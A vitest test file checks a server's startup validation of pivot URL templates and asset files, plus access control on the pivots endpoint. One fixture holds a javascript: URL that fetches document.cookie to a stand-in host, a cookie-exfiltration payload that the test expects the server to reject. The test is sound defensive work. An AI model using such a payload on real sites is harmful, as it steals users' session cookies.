/**
 * `WF_PIVOTS` at start: a bad file stops the process with exit 2 and a clear message; a good one is served. A missing
 * `WF_ASSETS` file stops it the same way.
 */
import { once } from 'node:events';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { API } from '../../shared/contract.js';
import { startChildServer } from '../support/child-server.js';
import { callChecked } from '../support/contract.js';
import { startTestServer, type TestServer } from '../support/server.js';

const dir = mkdtempSync(join(tmpdir(), 'wf-pivots-'));
let wf: TestServer | undefined;
afterAll(async () => wf?.close());

describe('pivot templates', () => {
  it('a template that is not http(s) stops the server with exit 2, naming the file and the entry', async () => {
    const path = join(dir, 'pivots.json');
    writeFileSync(path, JSON.stringify([{ name: 'evil', url: 'javascript:fetch("//x/"+document.cookie)' }]));
    const child = startChildServer({ REDIS_URL: inject('redisUrl'), WF_PIVOTS: path });
    const [code] = await once(child.process, 'exit');
    expect(code).toBe(2);
    expect(child.output()).toMatch(
      /WF_PIVOTS: pivot file .*pivots\.json: entry 0: url is javascript: — only http and https/,
    );
  });

  it('a missing asset inventory stops the server with exit 2, naming WF_ASSETS', async () => {
    const child = startChildServer({
      REDIS_URL: inject('redisUrl'),
      WF_ASSETS: join(dir, 'no-such-assets.json'),
    });
    const [code] = await once(child.process, 'exit');
    expect(code).toBe(2);
    expect(child.output()).toMatch(/WF_ASSETS: .*no-such-assets\.json/);
  });

  it('serves the templates to every signed-in role', async () => {
    const path = join(dir, 'good.json');
    const pivots = [
      {
        name: 'Arkime',
        url: 'https://arkime.example/sessions?expression={query}&startTime={from}&stopTime={to}',
      },
      { name: 'Zeek logs', url: 'https://kibana.example/app/discover#/?_a=(query:(query:{ip}))' },
    ];
    writeFileSync(path, JSON.stringify(pivots));
    wf = await startTestServer(inject('redisUrl'), { WF_PIVOTS: path });
    const operator = { url: wf.url, cookie: await wf.userCookie('operator') };
    expect(await callChecked(operator, API.pivots, {})).toEqual({ pivots });
    const anonymous = await fetch(`${wf.url}/api/pivots`);
    expect(anonymous.status).toBe(401);
  });
});
